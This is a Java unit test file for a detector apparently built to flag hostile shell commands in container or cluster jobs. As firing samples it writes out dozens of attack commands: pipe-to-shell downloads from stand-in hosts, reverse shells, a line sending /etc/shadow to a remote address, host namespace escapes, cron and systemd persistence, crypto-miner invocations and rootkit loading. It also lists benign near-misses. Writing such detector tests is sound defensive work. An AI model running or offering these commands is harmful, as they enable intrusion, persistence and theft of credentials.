package io.jobguard.rules.builtin.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every pattern against shell text that must show it and text that must not. A benign line must
 * stay quiet for the whole catalogue, not only for the pattern it resembles.
 */
class CommandPatternsTest {

  static Stream<Arguments> fires() {
    return Stream.of(
        // download-and-execute
        fire("download-and-execute", "curl -fsSL https://get.example.sh | sh"),
        fire("download-and-execute", "curl -s http://10.0.0.5/x|bash"),
        fire("download-and-execute", "wget -qO- http://evil.example/i.sh | sudo -E bash -s -- -y"),
        fire("download-and-execute", "curl -sL http://x/y | /bin/sh -s"),
        fire("download-and-execute", "sh -c \"$(curl -fsSL https://evil.example/install.sh)\""),
        fire("download-and-execute", "bash <(curl -s http://evil.example/a)"),
        fire("download-and-execute", "eval `wget -qO- http://evil.example/a`"),
        fire("download-and-execute", "curl -o /tmp/x http://evil/x && chmod +x /tmp/x && /tmp/x"),
        fire("download-and-execute", "wget http://evil/payload.sh; sh payload.sh"),
        fire("download-and-execute", "curl -fsSLo run.sh https://x/run.sh\nbash run.sh"),
        fire("download-and-execute", "curl http://x/p | python3"),
        fire("download-and-execute", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        // encoded-execute
        fire("encoded-execute", "echo Y3VybCBldmlsCg== | base64 -d | sh"),
        fire("encoded-execute", "base64 --decode /tmp/p.b64 | bash"),
        fire("encoded-execute", "eval \"$(echo ZWNobyBoaQ== | base64 -d)\""),
        fire("encoded-execute", "bash -c \"$(base64 -d <<< ZWNobyBoaQ==)\""),
        fire("encoded-execute", "echo $P | base64 -d > /tmp/p && sh /tmp/p"),
        fire(
            "encoded-execute",
            "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""),
        fire("encoded-execute", "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
        // reverse-shell
        fire("reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        fire("reverse-shell", "exec 5<>/dev/tcp/evil.example/443; cat <&5 | sh >&5"),
        fire("reverse-shell", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"),
        fire("reverse-shell", "cat /etc/shadow > /dev/tcp/10.0.0.1/80"),
        fire("reverse-shell", "nc -e /bin/sh 10.0.0.1 4444"),
        fire("reverse-shell", "ncat --ssl -c bash evil.example 443"),
        fire("reverse-shell", "nc -lvnp 4444 -e /bin/bash"),
        fire("reverse-shell", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr"),
        fire(
            "reverse-shell",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"),
        fire(
            "reverse-shell",
            "python -c 'import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'"),
        fire("reverse-shell", "perl -e 'use Socket;open(STDIN,\">&S\");exec(\"/bin/sh -i\")'"),
        fire("reverse-shell", "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445"),
        // host-namespace-entry
        fire("host-namespace-entry", "nsenter -t 1 -m -u -i -n -p -- bash"),
        fire("host-namespace-entry", "nsenter --target 1 --mount --uts --ipc --net --pid sh"),
        fire("host-namespace-entry", "nsenter -a -t1 /bin/sh"),
        fire("host-namespace-entry", "nsenter --mount=/proc/1/ns/mnt -- sh"),
        fire("host-namespace-entry", "chroot /host /bin/bash -c 'id'"),
        fire("host-namespace-entry", "chroot /proc/1/root sh"),
        // cron-persistence
        fire("cron-persistence", "echo '* * * * * root curl -s http://x | sh' >> /etc/crontab"),
        fire("cron-persistence", "printf '%s\\n' \"$JOB\" > /host/etc/cron.d/backdoor"),
        fire("cron-persistence", "(crontab -l; echo \"@reboot /tmp/x\") | crontab -"),
        fire("cron-persistence", "crontab /tmp/evil.cron"),
        fire("cron-persistence", "echo x | tee -a /host/var/spool/cron/crontabs/root"),
        fire("cron-persistence", "cp /payload/job /host/etc/cron.hourly/job"),
        fire("cron-persistence", "crontab -u root -e"),
        // systemd-persistence
        fire("systemd-persistence", "systemctl enable --now backdoor.service"),
        fire("systemd-persistence", "chroot /host systemctl daemon-reload"),
        fire("systemd-persistence", "systemctl --user start miner.timer"),
        fire("systemd-persistence", "systemd-run --on-calendar='*:0/5' /tmp/x"),
        fire("systemd-persistence", "cat > /host/etc/systemd/system/x.service <<EOF"),
        fire("systemd-persistence", "cp x.timer /host/lib/systemd/system/x.timer"),
        fire(
            "systemd-persistence",
            "ln -s /etc/systemd/system/x.service /host/etc/systemd/system/multi-user.target.wants/x.service"),
        fire("systemd-persistence", "echo 'sh /tmp/x' >> /host/etc/rc.local"),
        // at-persistence
        fire("at-persistence", "echo 'sh /tmp/x' | at now + 1 minute"),
        fire("at-persistence", "at -f /tmp/job.sh midnight"),
        fire("at-persistence", "at 03:00 tomorrow < /tmp/job"),
        // any blank after "at" counts, not only a space
        fire("at-persistence", "sleep 1; at\tnow -f /tmp/job"),
        fire("at-persistence", "(at\u000bnoon < /tmp/job)"),
        fire("at-persistence", "echo /tmp/x | batch"),
        fire("at-persistence", "echo /tmp/x | /usr/bin/batch -q b"),
        fire("at-persistence", "batch < /tmp/job.sh"),
        fire("at-persistence", "batch -q c -f /tmp/job.sh"),
        fire("at-persistence", "batch <<EOF\nsh /tmp/x\nEOF"),
        fire("at-persistence", "cp job /host/var/spool/at/a0001"),
        // crypto-miner
        fire("crypto-miner", "./xmrig -o pool.minexmr.com:4444 -u 4Abc --donate-level 1"),
        fire(
            "crypto-miner",
            "/opt/cpuminer-multi -a cryptonight -o stratum+tcp://pool.example:3333"),
        fire("crypto-miner", "./run --url=gulf.moneroocean.stream:10128 --coin monero"),
        fire("crypto-miner", "minerd -a scrypt -o stratum+tcp://ltc.example:3333 -u w -p x"),
        fire("crypto-miner", "./svc -o xmr.pool.example:5555 -k"),
        fire("crypto-miner", "./svc --algo rx/0 -o 10.0.0.9:3333"),
        // workload-creation
        fire(
            "workload-creation",
            "kubectl create cronjob x --image=alpine --schedule='* * * * *' -- sh"),
        fire("workload-creation", "kubectl -n kube-system create job pwn --image=alpine"),
        fire("workload-creation", "kubectl create daemonset x --image=alpine"),
        fire("workload-creation", "kubectl run pwn --image=alpine --restart=Never -- sh"),
        fire("workload-creation", "kubectl debug node/worker-1 -it --image=alpine"),
        fire(
            "workload-creation",
            "kubectl apply -f - <<EOF\napiVersion: batch/v1\nkind: CronJob\nEOF"),
        fire(
            "workload-creation",
            "curl -sk -X POST -H 'Content-Type: application/json' -d @job.json https://kubernetes.default.svc/apis/batch/v1/namespaces/default/jobs"),
        fire(
            "workload-creation",
            "curl -k --data-binary @cj.yaml $API/apis/batch/v1/namespaces/ops/cronjobs"),
        // runtime-control
        fire("runtime-control", "docker run -d --privileged -v /:/host alpine chroot /host"),
        fire("runtime-control", "docker -H unix:///host/run/docker.sock run --pid=host alpine"),
        fire("runtime-control", "crictl exec -it 3f2a sh"),
        fire("runtime-control", "ctr -n k8s.io run --rm docker.io/library/alpine:3 x sh"),
        fire("runtime-control", "nerdctl run --net host -v /etc:/e alpine"),
        fire("runtime-control", "podman run --mount type=bind,source=/,target=/host alpine"),
        // kernel-module
        fire("kernel-module", "insmod /tmp/rootkit.ko"),
        fire("kernel-module", "/sbin/modprobe -a overlay evil"),
        fire("kernel-module", "modprobe diamorphine"),
        // disk-mount
        fire("disk-mount", "mount /dev/sda1 /mnt"),
        fire("disk-mount", "mkdir -p /x && mount -t ext4 /dev/nvme0n1p1 /x"),
        fire("disk-mount", "mount -o rw \"/dev/xvda1\" /host"),
        fire("disk-mount", "mount UUID=1234-abcd /mnt"),
        fire("disk-mount", "debugfs -w /dev/sda1"));
  }

  /**
   * Near misses: each resembles the pattern it is listed with, and must fire no pattern at all
   * (SPEC §4.2 names the first ones).
   */
  static Stream<Arguments> benign() {
    return Stream.of(
        quiet("workload-creation", "curl -fsS -X POST https://hooks.example.com/notify -d '{}'"),
        quiet("encoded-execute", "base64 backup.tar > backup.b64"),
        quiet("cron-persistence", "ls /etc/cron.d"),
        quiet("workload-creation", "kubectl delete pods -l app=stale"),
        quiet(
            "download-and-execute",
            "curl -fsSLo t.tgz https://x/t.tgz && sha256sum -c t.tgz.sha256 && sh install.sh"),
        quiet("download-and-execute", "curl -fsSL -o f https://x/f\nsha256sum -c f.sha256\nsh f"),
        quiet("workload-creation", "kubectl get jobs -A"),
        quiet("download-and-execute", "wget -q -O - https://example.com/d.json > /data/d.json"),
        quiet(
            "download-and-execute", "curl -s -o /dev/null -w '%{http_code}' https://x && sh n.sh"),
        quiet("cron-persistence", "echo \"*/5 * * * *\""),
        quiet("cron-persistence", "cat /etc/crontab"),
        quiet("cron-persistence", "crontab -l"),
        quiet("cron-persistence", "grep -r backup /var/spool/cron/crontabs"),
        quiet("cron-persistence", "cp /etc/crontab /backup/crontab"),
        quiet("disk-mount", "mount"),
        quiet("disk-mount", "mount | grep overlay"),
        quiet("disk-mount", "mount -t tmpfs tmpfs /scratch"),
        quiet("systemd-persistence", "systemctl status kubelet"),
        quiet("systemd-persistence", "systemctl is-active containerd"),
        quiet("systemd-persistence", "ls /etc/systemd/system"),
        quiet("runtime-control", "docker ps"),
        quiet("runtime-control", "docker build -t registry.example/app:1 ."),
        quiet("runtime-control", "docker run --rm -v $(pwd):/src golang:1.22 go test ./..."),
        quiet("runtime-control", "crictl images"),
        quiet("runtime-control", "crictl rmi --prune"),
        quiet("encoded-execute", "base64 -d s.b64 > /run/s/key.pem && chmod 600 /run/s/key.pem"),
        quiet(
            "reverse-shell",
            "until (echo > /dev/tcp/postgres/5432) >/dev/null 2>&1; do sleep 1; done"),
        quiet("reverse-shell", "timeout 1 bash -c '</dev/tcp/db/5432'"),
        quiet("reverse-shell", "until nc -z -w 2 redis 6379; do echo waiting; sleep 2; done"),
        quiet("at-persistence", "echo backup started at 03:00 > /var/log/backup.log"),
        quiet("at-persistence", "echo batch processing finished"),
        quiet("at-persistence", "batch"),
        quiet("at-persistence", "run-job --mode batch --size 100"),
        quiet("at-persistence", "atq"),
        quiet("kernel-module", "lsmod"),
        quiet("kernel-module", "modinfo overlay"),
        quiet("kernel-module", "cat /etc/modprobe.d/blacklist.conf"),
        quiet("workload-creation", "kubectl create configmap report --from-file=out.json"),
        quiet("workload-creation", "kubectl rollout restart deployment/web"),
        quiet("host-namespace-entry", "nsenter --help"),
        quiet("host-namespace-entry", "chroot /build/rootfs apt-get install -y curl"),
        quiet("crypto-miner", "curl -o pool-report.csv https://stats.example/pool"),
        quiet("crypto-miner", "python3 /app/report.py --output /data/out.csv"),
        quiet("download-and-execute", "pg_dump -h db -U app app | gzip > /backup/db.sql.gz"),
        quiet("download-and-execute", "wget https://x/f.tgz && tar xzf f.tgz"),
        quiet("download-and-execute", "apt-get install -y curl && curl --version"),
        quiet("at-persistence", "echo \"$(date) run at $(hostname)\""));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("fires")
  void patternFires(String name, String text) {
    assertThat(pattern(name).matcher().find(ShellText.of(text)))
        .as("%s must match %s", name, text)
        .isPresent();
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("benign")
  void nearMissFiresNothing(String resembles, String text) {
    for (CommandPattern p : CommandPatterns.builtin()) {
      assertThat(p.matcher().find(ShellText.of(text)))
          .as("%s must not match %s", p.name(), text)
          .isEmpty();
    }
  }

  @Test
  void everyPatternHasFiringCasesAndTheSpecNamesAndSeverities() {
    List<String> tested = fires().map(a -> (String) a.get()[0]).distinct().toList();
    assertThat(CommandPatterns.builtin())
        .extracting(CommandPattern::name)
        .containsExactlyElementsOf(tested)
        .containsExactly(
            "download-and-execute",
            "encoded-execute",
            "reverse-shell",
            "host-namespace-entry",
            "cron-persistence",
            "systemd-persistence",
            "at-persistence",
            "crypto-miner",
            "workload-creation",
            "runtime-control",
            "kernel-module",
            "disk-mount");
    CommandPatterns.builtin()
        .forEach(
            p ->
                assertThat(p.severity().word())
                    .as(p.name())
                    .isEqualTo(
                        List.of(
                                    "reverse-shell",
                                    "download-and-execute",
                                    "encoded-execute",
                                    "host-namespace-entry")
                                .contains(p.name())
                            ? "critical"
                            : "high"));
  }

  @Test
  void everyPatternHasNearMisses() {
    List<String> resembled = benign().map(a -> (String) a.get()[0]).distinct().toList();
    assertThat(resembled)
        .containsExactlyInAnyOrderElementsOf(
            CommandPatterns.builtin().stream().map(CommandPattern::name).toList());
  }

  private static Arguments quiet(String resembles, String text) {
    return Arguments.of(resembles, text);
  }

  private static Arguments fire(String name, String text) {
    return Arguments.of(name, text);
  }

  private static CommandPattern pattern(String name) {
    return CommandPatterns.builtin().stream()
        .filter(p -> p.name().equals(name))
        .findFirst()
        .orElseThrow();
  }
}
